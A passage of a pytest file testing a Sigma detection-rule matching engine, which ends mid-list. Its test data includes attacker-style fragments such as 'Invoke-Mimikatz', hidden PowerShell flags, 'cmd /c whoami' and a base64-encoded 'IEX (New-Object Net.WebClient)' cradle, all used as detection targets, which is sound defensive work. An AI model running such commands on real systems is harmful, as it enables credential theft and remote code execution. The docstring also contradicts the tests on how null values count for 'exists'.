"""Semantic unit tests for the Sigma matching engine (stream.rules + stream.engine).

Expected results come from the Sigma specification (v2, https://sigmahq.io/docs) and, for
how modifiers transform values, from pySigma 1.5.1 (sigma/modifiers.py, sigma/types.py).
They are NOT derived from the engine's behaviour.

Conventions chosen where the spec leaves room (documented here once):
* ``field: null``  matches when the field is missing OR present with value None.
* ``field: ''``    matches only a present field whose value is the empty string.
* ``field|exists: true``  means the field is present, whatever its value (even null), as the
  Sigma specification says ("only verifies the presence of a field, not its value, be it empty
  or null"); ``exists: false`` is its negation.
  (Project choice. NB: the spec's modifier appendix v2.1 says exists "only verifies the presence of
  a field, not its value, be it empty or null" -- we treat a None value like an absent field, as
  flattened JSON events commonly carry null for "not there".)
* Plain string matching is case-insensitive and whole-value; ``cased`` and ``re`` are
  case-sensitive.
* A list-valued event field matches if any element matches.
"""

from __future__ import annotations

import base64
import re
import uuid

import pytest
import yaml

from sigstream.stream.engine import Engine
from sigstream.stream.rules import load_rule_text

# --------------------------------------------------------------------------- helpers

MISSING = object()  # sentinel: leave the field out of the event entirely

NEUTRAL_LOGSOURCE = {"product": "test", "category": "test"}
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"


def rule_yaml(detection: dict, *, title: str = "test rule", rule_id: str | None = None,
              logsource: dict | None = None) -> str:
    """Build one Sigma rule document. ``condition`` defaults to ``sel``."""
    det = dict(detection)
    det.setdefault("condition", "sel")
    doc = {
        "title": title,
        "id": rule_id or str(uuid.uuid4()),
        "status": "test",
        "logsource": logsource or NEUTRAL_LOGSOURCE,
        "detection": det,
        "level": "medium",
    }
    return yaml.safe_dump(doc, sort_keys=False, allow_unicode=True)


def load_ok(text: str, **kw):
    loaded = load_rule_text(text, **kw)
    assert not loaded.errors, loaded.errors
    return loaded


def fires(rule_text: str, event: dict, **kw) -> bool:
    loaded = load_ok(rule_text, **kw)
    assert loaded.rules, "rule text produced no rules"
    return bool(Engine(loaded.rules).match(event))


def fires_det(detection: dict, event: dict, **kw) -> bool:
    return fires(rule_yaml(detection), event, **kw)


def field_event(field: str, value) -> dict:
    return {} if value is MISSING else {field: value}


def one_field(spec: str, value, event_value, **kw) -> bool:
    """Rule ``sel: {spec: value}``; event with the spec's field set to event_value."""
    field = spec.split("|", 1)[0]
    return fires_det({"sel": {spec: value}}, field_event(field, event_value), **kw)


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def multi_doc(*docs: str) -> str:
    return "---\n".join(docs)


# --------------------------------------------------------------------------- equality & wildcards

EQUALITY_CASES = [
    pytest.param("cmd.exe", "cmd.exe", True, id="eq-exact"),
    pytest.param("cmd.exe", "CMD.EXE", True, id="eq-case-insensitive-upper"),
    pytest.param("CMD.exe", "cmd.EXE", True, id="eq-case-insensitive-mixed"),
    pytest.param("cmd.exe", "xcmd.exe", False, id="eq-whole-value-prefix-extra"),
    pytest.param("cmd.exe", "cmd.exe ", False, id="eq-whole-value-trailing-space"),
    pytest.param("cmd.exe", "cmd", False, id="eq-whole-value-shorter"),
    pytest.param("cmd.exe", MISSING, False, id="eq-missing-field"),
    pytest.param("*cmd.exe", r"C:\Windows\System32\cmd.exe", True, id="wc-leading-star"),
    pytest.param("*cmd.exe", "cmd.exe.bak", False, id="wc-leading-star-neg"),
    pytest.param("cmd*", "CMD.EXE /c whoami", True, id="wc-trailing-star-ci"),
    pytest.param("cmd*", "xcmd", False, id="wc-trailing-star-neg"),
    pytest.param("foo*bar", "fooXYZbar", True, id="wc-middle-star"),
    pytest.param("foo*bar", "foobar", True, id="wc-middle-star-empty"),
    pytest.param("foo*bar", "foobarX", False, id="wc-middle-star-anchored-end"),
    pytest.param("foo*bar", "a\nfoo\nbar", False, id="wc-middle-star-anchored-start"),
    pytest.param("foo*bar", "foo\nline\nbar", True, id="wc-star-spans-newlines"),
    pytest.param("c?d.exe", "cmd.exe", True, id="wc-question"),
    pytest.param("c?d.exe", "cd.exe", False, id="wc-question-needs-one-char"),
    pytest.param("c?d.exe", "cmmd.exe", False, id="wc-question-only-one-char"),
    pytest.param("*", "anything", True, id="wc-star-any"),
    pytest.param("*", "", True, id="wc-star-matches-empty"),
    pytest.param("*", MISSING, False, id="wc-star-missing-field"),
    pytest.param("a.c", "abc", False, id="dot-is-literal"),
    pytest.param("a+b", "a+b", True, id="regex-metachar-literal"),
    pytest.param("(x)[y]", "(X)[Y]", True, id="brackets-literal"),
]


@pytest.mark.parametrize("value,event_value,expected", EQUALITY_CASES)
def test_equality_and_wildcards(value, event_value, expected):
    assert one_field("Image", value, event_value) is expected


# Escaping per spec: "\*" literal star, "\?" literal question mark, "\\" one backslash,
# a backslash before any other character is a plain backslash.
ESCAPE_CASES = [
    pytest.param(r"a\*b", "a*b", True, id="esc-star-literal"),
    pytest.param(r"a\*b", "aXb", False, id="esc-star-not-wildcard"),
    pytest.param(r"a\*b", r"a\*b", False, id="esc-star-backslash-consumed"),
    pytest.param(r"a\?b", "a?b", True, id="esc-question-literal"),
    pytest.param(r"a\?b", "aXb", False, id="esc-question-not-wildcard"),
    pytest.param(r"a\\b", "a\\b", True, id="esc-double-backslash-is-one"),
    pytest.param(r"a\\b", "a\\\\b", False, id="esc-double-backslash-not-two"),
    pytest.param(r"C:\Windows\System32", "c:\\windows\\system32", True, id="esc-plain-backslash"),
    pytest.param(r"C:\Windows\\*", "C:\\Windows\\System32\\cmd.exe", True, id="esc-backslash-then-wildcard"),
    pytest.param(r"C:\Windows\\*", "C:\\Windows", False, id="esc-backslash-then-wildcard-neg"),
    pytest.param(r"C:\Windows\\*\cmd.exe", "C:\\Windows\\System32\\cmd.exe", True, id="esc-wildcard-middle-path"),
    pytest.param(r"C:\Windows\\*\cmd.exe", "C:\\Windows\\System32\\cmd.com", False, id="esc-wildcard-middle-path-neg"),
    pytest.param(r"a\\\*", "a\\*", True, id="esc-backslash-then-literal-star"),
    pytest.param(r"a\\\*", "a\\xyz", False, id="esc-backslash-then-literal-star-neg"),
    pytest.param("trail\\", "trail\\", True, id="esc-trailing-backslash"),
]


@pytest.mark.parametrize("value,event_value,expected", ESCAPE_CASES)
def test_escapes(value, event_value, expected):
    assert one_field("Path", value, event_value) is expected


# --------------------------------------------------------------------------- string modifiers

STRING_MOD_CASES = [
    pytest.param("CommandLine|contains", "Invoke-Mimikatz", "powershell IEX (invoke-mimikatz)", True, id="contains-ci"),
    pytest.param("CommandLine|contains", "Invoke-Mimikatz", "powershell Invoke-Mimi", False, id="contains-neg"),
    pytest.param("CommandLine|contains", "mimikatz", "line1\nrun MIMIKATZ\nline3", True, id="contains-multiline-text"),
    pytest.param("CommandLine|contains", "foo*bar", "xx foo123bar yy", True, id="contains-with-inner-wildcard"),
    pytest.param("CommandLine|contains", "foo*bar", "xx bar foo yy", False, id="contains-with-inner-wildcard-neg"),
    pytest.param("CommandLine|contains", "x", MISSING, False, id="contains-missing-field"),
    pytest.param("Image|startswith", "C:\\Windows\\", "c:\\windows\\system32\\cmd.exe", True, id="startswith"),
    pytest.param("Image|startswith", "C:\\Windows\\", "D:\\C:\\Windows\\x.exe", False, id="startswith-neg"),
    pytest.param("Image|endswith", "\\cmd.exe", "C:\\Windows\\System32\\CMD.EXE", True, id="endswith"),
    pytest.param("Image|endswith", "\\cmd.exe", "C:\\Windows\\System32\\cmd.exe.txt", False, id="endswith-neg"),
    pytest.param("Image|endswith", "\\cmd.exe", "C:\\cmd.exe\n", False, id="endswith-no-trailing-newline-slack"),
    pytest.param("CommandLine|contains|all", ["-nop", "-w hidden"], "powershell -NoP -W Hidden -c x", True, id="contains-all-both"),
    pytest.param("CommandLine|contains|all", ["-nop", "-w hidden"], "powershell -nop -c x", False, id="contains-all-one-missing"),
    pytest.param("CommandLine|contains", ["-nop", "-w hidden"], "powershell -nop -c x", True, id="contains-list-is-or"),
    pytest.param("Image", ["a.exe", "b.exe"], "B.EXE", True, id="list-or-second"),
    pytest.param("Image", ["a.exe", "b.exe"], "c.exe", False, id="list-or-neg"),
    pytest.param("Image|endswith", ["\\a.exe", "\\b.exe"], "C:\\x\\b.exe", True, id="endswith-list-or"),
    pytest.param("Image|all", ["*cmd*", "*.exe"], "cmd.exe", True, id="all-plain-list-both"),
    pytest.param("Image|all", ["*cmd*", "*.exe"], "cmd.com", False, id="all-plain-list-one"),
    pytest.param("Image|startswith|all", ["c:", "c:\\win"], "C:\\Windows", True, id="startswith-all"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", STRING_MOD_CASES)
def test_string_modifiers(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


MAP_LIST_CASES = [
    # maps: AND of fields
    pytest.param({"sel": {"Image": "*\\cmd.exe", "CommandLine|contains": "whoami"}},
                 {"Image": "C:\\cmd.exe", "CommandLine": "cmd /c whoami"}, True, id="map-and-both"),
    pytest.param({"sel": {"Image": "*\\cmd.exe", "CommandLine|contains": "whoami"}},
                 {"Image": "C:\\cmd.exe", "CommandLine": "cmd /c dir"}, False, id="map-and-one-fails"),
    pytest.param({"sel": {"Image": "*\\cmd.exe", "CommandLine|contains": "whoami"}},
                 {"Image": "C:\\cmd.exe"}, False, id="map-and-one-missing"),
    # list of maps: OR of maps
    pytest.param({"sel": [{"Image": "a.exe"}, {"CommandLine": "b"}]},
                 {"Image": "x.exe", "CommandLine": "B"}, True, id="list-of-maps-second"),
    pytest.param({"sel": [{"Image": "a.exe"}, {"CommandLine": "b"}]},
                 {"Image": "A.exe", "CommandLine": "zzz"}, True, id="list-of-maps-first"),
    pytest.param({"sel": [{"Image": "a.exe"}, {"CommandLine": "b"}]},
                 {"Image": "x.exe", "CommandLine": "c"}, False, id="list-of-maps-none"),
    pytest.param({"sel": [{"Image": "a.exe", "User": "root"}, {"CommandLine": "b"}]},
                 {"Image": "a.exe", "User": "bob"}, False, id="list-of-maps-inner-and"),
]


@pytest.mark.parametrize("detection,event,expected", MAP_LIST_CASES)
def test_maps_and_lists(detection, event, expected):
    assert fires_det(detection, event) is expected


# --------------------------------------------------------------------------- regular expressions

REGEX_CASES = [
    pytest.param("Cmd|re", r"foo\d+", "xx foo123 yy", True, id="re-unanchored"),
    pytest.param("Cmd|re", r"foo\d+", "xx FOO123 yy", False, id="re-case-sensitive"),
    pytest.param("Cmd|re", r"foo\d+", "xx foo yy", False, id="re-neg"),
    pytest.param("Cmd|re", r"^foo$", "foo", True, id="re-anchored-explicit"),
    pytest.param("Cmd|re", r"^foo$", "foox", False, id="re-anchored-explicit-neg"),
    pytest.param("Cmd|re", r"^bar$", "foo\nbar\nbaz", False, id="re-no-multiline-by-default"),
    pytest.param("Cmd|re|m", r"^bar$", "foo\nbar\nbaz", True, id="re-m-multiline"),
    pytest.param("Cmd|re", r"foo.bar", "foo\nbar", False, id="re-dot-no-newline-by-default"),
    pytest.param("Cmd|re|s", r"foo.bar", "foo\nbar", True, id="re-s-dotall"),
    pytest.param("Cmd|re|i", r"FOO\d", "xfoo1", True, id="re-i"),
    pytest.param("Cmd|re|i", r"FOO\d", "xbar1", False, id="re-i-neg"),
    pytest.param("Cmd|re", r"a|b", "zzb", True, id="re-alternation"),
    pytest.param("Cmd|re", r"x", MISSING, False, id="re-missing-field"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", REGEX_CASES)
def test_regex(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


def test_invalid_regex_is_load_error_and_other_rules_load():
    good_id, bad_id = str(uuid.uuid4()), str(uuid.uuid4())
    text = multi_doc(
        rule_yaml({"sel": {"Cmd|re": "(unclosed"}}, title="bad regex", rule_id=bad_id),
        rule_yaml({"sel": {"Cmd": "ok"}}, title="good rule", rule_id=good_id),
    )
    loaded = load_rule_text(text)
    assert len(loaded.errors) == 1, loaded.errors
    err = loaded.errors[0]
    assert err.reason and isinstance(err.reason, str)
    assert re.search(r"regular expression|regex|\bre\b|unterminated|missing \)|parenthes",
                     err.reason, re.I), err.reason
    assert err.rule_id == bad_id or err.title == "bad regex"
    assert len(loaded.rules) == 1
    dets = Engine(loaded.rules).match({"Cmd": "ok"})
    assert [d.rule.id for d in dets] == [good_id]


# --------------------------------------------------------------------------- base64 & encodings

def _b64_blob(needle: str, prefix_len: int, enc: str = "utf-8", suffix: str = " ; more-trailing-data") -> str:
    prefix = "Q" * prefix_len
    return b64((prefix + needle + suffix).encode(enc))


NEEDLE = "Invoke-Expression"

BASE64_CASES = [
    pytest.param("Data|base64", "hello", "aGVsbG8=", True, id="base64-exact"),
    pytest.param("Data|base64", "hello", "hello", False, id="base64-plaintext-no-match"),
    pytest.param("Data|base64", "hello", "xaGVsbG8=", False, id="base64-exact-whole-value"),
    pytest.param("Data|base64|contains", "IEX", "powershell -e xxSUVYyy", True, id="base64-contains"),
    pytest.param("Data|base64|contains", "IEX", "powershell -e IEX", False, id="base64-contains-neg"),
] + [
    pytest.param("Data|base64offset|contains", NEEDLE, "blob " + _b64_blob(NEEDLE, k), True,
                 id=f"base64offset-prefix{k}")
    for k in range(6)
] + [
    pytest.param("Data|base64offset|contains", NEEDLE, "blob " + _b64_blob("Get-ChildItem", 1), False,
                 id="base64offset-other-text"),
    pytest.param("Data|base64offset|contains", NEEDLE, "plain " + NEEDLE, False,
                 id="base64offset-plaintext-no-match"),
] + [
    pytest.param(f"CommandLine|{mod}|base64offset|contains", "IEX",
                 "powershell.exe -EncodedCommand " + _b64_blob("IEX", k, "utf-16-le", "(New-Object Net.WebClient)"),
                 True, id=f"{mod}-base64offset-prefix{k}")
    for mod in ("utf16le", "wide")
    for k in range(5)
] + [
    pytest.param("CommandLine|utf16le|base64offset|contains", "IEX",
                 "powershell.exe -EncodedCommand " + _b64_blob("IEX", 2, "utf-8", "(New-Object Net.WebClient)"),
                 False, id="utf16le-base64offset-utf8-blob-no-match"),
    pytest.param("CommandLine|wide|base64offset|contains", "IEX",
                 "powershell.exe -EncodedCommand " + _b64_blob("Get-Date", 3, "utf-16-le"),
                 False, id="wide-base64offset-other-text"),
] + [
    pytest.param("CommandLine|utf16be|base64offset|contains", "IEX",
                 "x " + _b64_blob("IEX", k, "utf-16-be"), True, id=f"utf16be-base64offset-prefix{k}")
    for k in range(3)
] + [
    pytest.param("CommandLine|utf16be|base64offset|contains", "IEX",
                 "x " + _b64_blob("IEX", 0, "utf-16-le"), False, id="utf16be-base64offset-le-blob-no-match"),
    pytest.param("Data|wide|base64", "ab", b64("ab".encode("utf-16-le")), True, id="wide-base64-exact"),
    pytest.param("Data|utf16le|base64", "ab", b64("ab".encode("utf-16-le")), True, id="utf16le-base64-exact"),
    pytest.param("Data|utf16be|base64", "ab", b64("ab".encode("utf-16-be")), True, id="utf16be-base64-exact"),
    pytest.param("Data|utf16be|base64", "ab", b64("ab".encode("utf-16-le")), False, id="utf16be-base64-le-no-match"),
    # utf16 = UTF-16 little endian with BOM FF FE (spec); python "utf-16" on LE hosts emits FF FE.
    pytest.param("Data|utf16|base64", "ab", b64(b"\xff\xfe" + "ab".encode("utf-16-le")), True, id="utf16-bom-base64-exact"),
    pytest.param("Data|utf16|base64", "ab", b64("ab".encode("utf-16-le")), False, id="utf16-base64-needs-bom"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", BASE64_CASES)
def test_base64_and_encodings(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


# --------------------------------------------------------------------------- windash

WINDASH_CASES = [
    pytest.param(" -enc ", "powershell -enc AAAA", True, id="windash-hyphen"),
    pytest.param(" -enc ", "powershell /enc AAAA", True, id="windash-slash"),
    pytest.param(" -enc ", "powershell \u2013enc AAAA", True, id="windash-en-dash"),
    pytest.param(" -enc ", "powershell \u2014enc AAAA", True, id="windash-em-dash"),
    pytest.param(" -enc ", "powershell \u2015enc AAAA", True, id="windash-horizontal-bar"),
    pytest.param(" -enc ", "powershell -ENC AAAA", True, id="windash-case-insensitive"),
    pytest.param(" -enc ", "powershell enc AAAA", False, id="windash-no-dash"),
    pytest.param(" -enc ", "powershell +enc AAAA", False, id="windash-plus-not-dash"),
    pytest.param(" -enc ", "powershell \u2012enc AAAA", False, id="windash-figure-dash-not-included"),
    pytest.param(" /c ", "cmd.exe -c whoami", True, id="windash-slash-value-matches-hyphen"),
    pytest.param(" /c ", "cmd.exe \u2014c whoami", True, id="windash-slash-value-matches-em-dash"),
]


@pytest.mark.parametrize("value,event_value,expected", WINDASH_CASES)
def test_windash(value, event_value, expected):
    assert one_field("CommandLine|windash|contains", value, event_value) is expected


# --------------------------------------------------------------------------- cidr

CIDR_CASES = [
    pytest.param("10.0.0.0/8", "10.1.2.3", True, id="v4-in"),
    pytest.param("10.0.0.0/8", "11.0.0.1", False, id="v4-out"),
    pytest.param("192.168.1.0/24", "192.168.1.255", True, id="v4-24-broadcast-in"),
    pytest.param("192.168.1.0/24", "192.168.2.1", False, id="v4-24-out"),
    pytest.param("192.168.1.5/32", "192.168.1.5", True, id="v4-host"),
    pytest.param("10.0.0.0/8", "not-an-ip", False, id="v4-not-an-ip"),
    pytest.param("10.0.0.0/8", "", False, id="v4-empty"),
    pytest.param("10.0.0.0/8", MISSING, False, id="v4-missing"),
    pytest.param("10.0.0.0/8", "2001:db8::1", False, id="v4-net-v6-addr"),
    pytest.param("10.0.0.0/8", ["8.8.8.8", "10.9.9.9"], True, id="v4-list-field-any"),
    pytest.param("2001:db8::/32", "2001:db8::1", True, id="v6-in"),
    pytest.param("2001:db8::/32", "2001:db9::1", False, id="v6-out"),
    pytest.param("fe80::/10", "FE80::1", True, id="v6-uppercase"),
    pytest.param("2001:db8::/32", "10.0.0.1", False, id="v6-net-v4-addr"),
    pytest.param("2001:db8::/32", "not-an-ip", False, id="v6-not-an-ip"),
    pytest.param("2001:db8::/32", "", False, id="v6-empty"),
]


@pytest.mark.parametrize("net,event_value,expected", CIDR_CASES)
def test_cidr(net, event_value, expected):
    assert one_field("DestinationIp|cidr", net, event_value) is expected


# --------------------------------------------------------------------------- exists / null / empty

NULL_EXISTS_CASES = [
    pytest.param("Field|exists", True, "x", True, id="exists-true-present"),
    pytest.param("Field|exists", True, "", True, id="exists-true-empty-string"),
    pytest.param("Field|exists", True, 0, True, id="exists-true-zero"),
    pytest.param("Field|exists", True, MISSING, False, id="exists-true-missing"),
    pytest.param("Field|exists", True, None, True, id="exists-true-none"),
    pytest.param("Field|exists", False, MISSING, True, id="exists-false-missing"),
    pytest.param("Field|exists", False, None, False, id="exists-false-none"),
    pytest.param("Field|exists", False, "x", False, id="exists-false-present"),
    pytest.param("Field|exists", False, "", False, id="exists-false-empty-string"),
    # null matches missing or None
    pytest.param("Field", None, MISSING, True, id="null-missing"),
    pytest.param("Field", None, None, True, id="null-none"),
    pytest.param("Field", None, "", False, id="null-empty-string"),
    pytest.param("Field", None, "x", False, id="null-value"),
    # '' matches only the empty string
    pytest.param("Field", "", "", True, id="empty-empty"),
    pytest.param("Field", "", MISSING, False, id="empty-missing"),
    pytest.param("Field", "", None, False, id="empty-none"),
    pytest.param("Field", "", "x", False, id="empty-value"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", NULL_EXISTS_CASES)
def test_null_exists_empty(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


# --------------------------------------------------------------------------- fieldref

FIELDREF_CASES = [
    pytest.param({"TargetUserName": "alice", "SubjectUserName": "alice"}, True, id="fieldref-equal"),
    pytest.param({"TargetUserName": "alice", "SubjectUserName": "bob"}, False, id="fieldref-different"),
    # Sigma string comparison is case-insensitive by default; fieldref compares values as strings.
    pytest.param({"TargetUserName": "Alice", "SubjectUserName": "ALICE"}, True, id="fieldref-case-insensitive"),
    pytest.param({"TargetUserName": "alice"}, False, id="fieldref-referenced-missing"),
    pytest.param({"SubjectUserName": "alice"}, False, id="fieldref-own-missing"),
    pytest.param({}, False, id="fieldref-both-missing"),
    pytest.param({"TargetUserName": "alicex", "SubjectUserName": "alice"}, False, id="fieldref-whole-value"),
]


@pytest.mark.parametrize("event,expected", FIELDREF_CASES)
def test_fieldref(event, expected):
    assert fires_det({"sel": {"TargetUserName|fieldref": "SubjectUserName"}}, event) is expected


# spec modifiers appendix v2.1: fieldref "can be combined with the neq modifier"
@pytest.mark.parametrize("event,expected", [
    pytest.param({"TargetUserName": "alice", "SubjectUserName": "bob"}, True, id="fieldref-neq-different"),
    pytest.param({"TargetUserName": "alice", "SubjectUserName": "alice"}, False, id="fieldref-neq-equal"),
])
def test_fieldref_neq(event, expected):
    assert fires_det({"sel": {"TargetUserName|fieldref|neq": "SubjectUserName"}}, event) is expected


# --------------------------------------------------------------------------- numeric comparison

COMPARE_CASES = [
    pytest.param("lt", 10, 5, True, id="lt-int"),
    pytest.param("lt", 10, 10, False, id="lt-equal"),
    pytest.param("lt", 10, 15, False, id="lt-greater"),
    pytest.param("lt", 10, 9.5, True, id="lt-float-event"),
    pytest.param("lt", 10, "5", True, id="lt-numeric-string"),
    pytest.param("lt", 10, "abc", False, id="lt-non-numeric-string"),
    pytest.param("lt", 10, "", False, id="lt-empty-string"),
    pytest.param("lt", 10, MISSING, False, id="lt-missing"),
    pytest.param("lt", 10, None, False, id="lt-none"),
    pytest.param("lte", 10, 10, True, id="lte-equal"),
    pytest.param("lte", 10, "10", True, id="lte-equal-string"),
    pytest.param("lte", 10, 11, False, id="lte-greater"),
    pytest.param("gt", 2.5, 3, True, id="gt-float-rule"),
    pytest.param("gt", 2.5, 2.5, False, id="gt-equal"),
    pytest.param("gt", 2.5, "2.6", True, id="gt-float-string"),
    pytest.param("gt", 2.5, "x", False, id="gt-non-numeric"),
    pytest.param("gt", 9, "10", True, id="gt-numeric-not-lexicographic"),
    pytest.param("lt", 9, "10", False, id="lt-numeric-not-lexicographic"),
    pytest.param("gte", 0, 0, True, id="gte-zero"),
    pytest.param("gte", 0, -1, False, id="gte-negative"),
    pytest.param("gte", 1000, "3389", True, id="gte-port-string"),
    pytest.param("gte", 0, MISSING, False, id="gte-missing"),
]


@pytest.mark.parametrize("op,value,event_value,expected", COMPARE_CASES)
def test_numeric_compare(op, value, event_value, expected):
    assert one_field(f"Count|{op}", value, event_value) is expected


# neq: in the Sigma spec / pySigma 1.5.1 (modifier_mapping["neq"] = SigmaNegateModifier) it negates
# the match of the detection item: the field is not equal to the value (not a numeric-only op).
NEQ_CASES = [
    pytest.param("Image|neq", "cmd.exe", "powershell.exe", True, id="neq-str-different"),
    pytest.param("Image|neq", "cmd.exe", "CMD.EXE", False, id="neq-str-equal-ci"),
    pytest.param("Count|neq", 5, 6, True, id="neq-int-different"),
    pytest.param("Count|neq", 5, 5, False, id="neq-int-equal"),
    pytest.param("Count|neq", 5, "5", False, id="neq-int-equal-string"),
    pytest.param("Image|neq", ["a.exe", "b.exe"], "c.exe", True, id="neq-list-none-equal"),
    pytest.param("Image|neq", ["a.exe", "b.exe"], "b.exe", False, id="neq-list-one-equal"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", NEQ_CASES)
def test_neq(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


# --------------------------------------------------------------------------- cased

CASED_CASES = [
    pytest.param("Image|cased", "CMD.exe", "CMD.exe", True, id="cased-exact"),
    pytest.param("Image|cased", "CMD.exe", "cmd.exe", False, id="cased-other-case"),
    pytest.param("Image|cased", "CMD*", "CMD.exe", True, id="cased-wildcard"),
    pytest.param("Image|cased", "CMD*", "cmd.exe", False, id="cased-wildcard-other-case"),
    pytest.param("Cmd|cased|contains", "FromBase64String", "[Convert]::FromBase64String($x)", True, id="cased-contains"),
    pytest.param("Cmd|cased|contains", "FromBase64String", "[convert]::frombase64string($x)", False, id="cased-contains-other-case"),
    pytest.param("Cmd|contains|cased", "FromBase64String", "[convert]::frombase64string($x)", False, id="contains-cased-other-case"),
    pytest.param("Cmd|contains", "FromBase64String", "[convert]::frombase64string($x)", True, id="uncased-contains-control"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", CASED_CASES)
def test_cased(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


# --------------------------------------------------------------------------- expand / placeholders

PH = {"admins": ["root", "Administrator"], "user": ["alice", "bob"]}

EXPAND_CASES = [
    pytest.param("User|expand", "%admins%", "root", True, id="expand-first"),
    pytest.param("User|expand", "%admins%", "administrator", True, id="expand-second-ci"),
    pytest.param("User|expand", "%admins%", "guest", False, id="expand-neg"),
    pytest.param("User|expand", "corp-%user%", "corp-bob", True, id="expand-with-prefix"),
    pytest.param("User|expand", "corp-%user%", "corp-carol", False, id="expand-with-prefix-neg"),
    pytest.param("User|expand", "corp-%user%", "bob", False, id="expand-with-prefix-whole-value"),
    # spec: "field|expand: \\%plain%name%" -> "%plain" literal, "%name%" placeholder
    pytest.param("User|expand", "\\%plain-%user%", "%plain-alice", True, id="expand-escaped-percent"),
    pytest.param("User|expand", "\\%plain-%user%", "%plain-carol", False, id="expand-escaped-percent-neg"),
    # without expand, %name% is a literal value
    pytest.param("User", "%user%", "%user%", True, id="no-expand-literal-percent"),
    pytest.param("User", "%user%", "alice", False, id="no-expand-not-expanded"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", EXPAND_CASES)
def test_expand(spec, value, event_value, expected):
    assert one_field(spec, value, event_value, placeholders=PH) is expected


def test_expand_unresolved_placeholder_is_error():
    good_id = str(uuid.uuid4())
    text = multi_doc(
        rule_yaml({"sel": {"User|expand": "%nosuchlist%"}}, title="unresolved"),
        rule_yaml({"sel": {"User": "x"}}, title="good", rule_id=good_id),
    )
    loaded = load_rule_text(text, placeholders={"other": ["a"]})
    assert len(loaded.errors) == 1, loaded.errors
    assert "nosuchlist" in loaded.errors[0].reason
    assert [r for r in loaded.rules]  # the good rule survives
    assert [d.rule.id for d in Engine(loaded.rules).match({"User": "x"})] == [good_id]


def test_expand_unresolved_without_any_placeholders_is_error():
    loaded = load_rule_text(rule_yaml({"sel": {"User|expand": "%admins%"}}))
    assert loaded.errors and "admins" in loaded.errors[0].reason
    assert not loaded.rules


# --------------------------------------------------------------------------- timestamp parts

TS = "2024-03-05T14:07:09.123Z"  # Tuesday; ISO week 10

TIMESTAMP_CASES = [
    pytest.param("hour", 14, TS, True, id="hour"),
    pytest.param("hour", 15, TS, False, id="hour-neg"),
    pytest.param("minute", 7, TS, True, id="minute"),
    pytest.param("minute", 9, TS, False, id="minute-neg"),
    pytest.param("day", 5, TS, True, id="day"),
    pytest.param("day", 6, TS, False, id="day-neg"),
    pytest.param("month", 3, TS, True, id="month"),
    pytest.param("month", 4, TS, False, id="month-neg"),
    pytest.param("year", 2024, TS, True, id="year"),
    pytest.param("year", 2023, TS, False, id="year-neg"),
    pytest.param("week", 10, TS, True, id="week"),
    pytest.param("week", 11, TS, False, id="week-neg"),
    pytest.param("hour", 14, MISSING, False, id="hour-missing-field"),
    pytest.param("hour", 14, "not a timestamp", False, id="hour-unparseable"),
]


@pytest.mark.parametrize("part,value,event_value,expected", TIMESTAMP_CASES)
def test_timestamp_parts(part, value, event_value, expected):
    assert one_field(f"TimeCreated|{part}", value, event_value) is expected


# --------------------------------------------------------------------------- keywords

KEYWORD_CASES = [
    pytest.param(["evil-token"], {"A": "x", "B": "evil-token"}, True, id="kw-any-field"),
    pytest.param(["evil-token"], {"A": "x", "B": "EVIL-TOKEN"}, True, id="kw-case-insensitive"),
    pytest.param(["evil-token"], {"A": "x", "B": "benign"}, False, id="kw-absent"),
    pytest.param(["evil-token"], {"Data": {"Inner": ["x", "evil-token"]}}, True, id="kw-nested-dict-list"),
    pytest.param(["evil-token"], {"Data": [{"k": "evil-token"}]}, True, id="kw-nested-list-dict"),
    pytest.param([4104], {"EventID": 4104}, True, id="kw-numeric"),
    pytest.param([4104], {"EventID": 4103}, False, id="kw-numeric-neg"),
    pytest.param(["*invoke-mimikatz*"], {"CommandLine": "powershell Invoke-Mimikatz -dump"}, True, id="kw-wildcard"),
    pytest.param(["*invoke-mimikatz*"], {"CommandLine": "powershell Invoke-Other"}, False, id="kw-wildcard-neg"),
    pytest.param(["aaa", "bbb"], {"X": "bbb"}, True, id="kw-list-or"),
    pytest.param(["CommandLine"], {"CommandLine": "x"}, False, id="kw-does-not-match-field-names"),
]


@pytest.mark.parametrize("keywords,event,expected", KEYWORD_CASES)
def test_keywords(keywords, event, expected):
    assert fires_det({"keywords": keywords, "condition": "keywords"}, event) is expected


# spec: keywords with the "|all" modifier are AND-linked
@pytest.mark.parametrize("event,expected", [
    pytest.param({"A": "OabVirtualDirectory", "B": "x -ExternalUrl y"}, True, id="kw-all-both"),
    pytest.param({"A": "OabVirtualDirectory", "B": "x"}, False, id="kw-all-one"),
])
def test_keywords_all(event, expected):
    det = {"keywords": {"|all": ["OabVirtualDirectory", "* -ExternalUrl *"]}, "condition": "keywords"}
    assert fires_det(det, event) is expected


@pytest.mark.parametrize("event,expected", [
    pytest.param({"Image": "a.exe", "X": "evil-token"}, True, id="kw-and-sel-both"),
    pytest.param({"Image": "b.exe", "X": "evil-token"}, False, id="kw-and-sel-sel-fails"),
    pytest.param({"Image": "a.exe", "X": "benign"}, False, id="kw-and-sel-kw-fails"),
])
def test_keywords_and_selection(event, expected):
    det = {"keywords": ["evil-token"], "sel": {"Image": "a.exe"}, "condition": "keywords and sel"}
    assert fires_det(det, event) is expected


# --------------------------------------------------------------------------- numbers, strings, booleans

TYPE_CASES = [
    pytest.param("EventID", 4104, 4104, True, id="int-rule-int-event"),
    pytest.param("EventID", 4104, "4104", True, id="int-rule-string-event"),
    pytest.param("EventID", 4104, 4103, False, id="int-rule-other-int"),
    pytest.param("EventID", 4104, "41040", False, id="int-rule-longer-string"),
    pytest.param("EventID", "4104", 4104, True, id="string-rule-int-event"),
    pytest.param("EventID", [4103, 4104], "4104", True, id="int-list-string-event"),
    pytest.param("Count", 1, "10", False, id="int-1-not-string-10"),
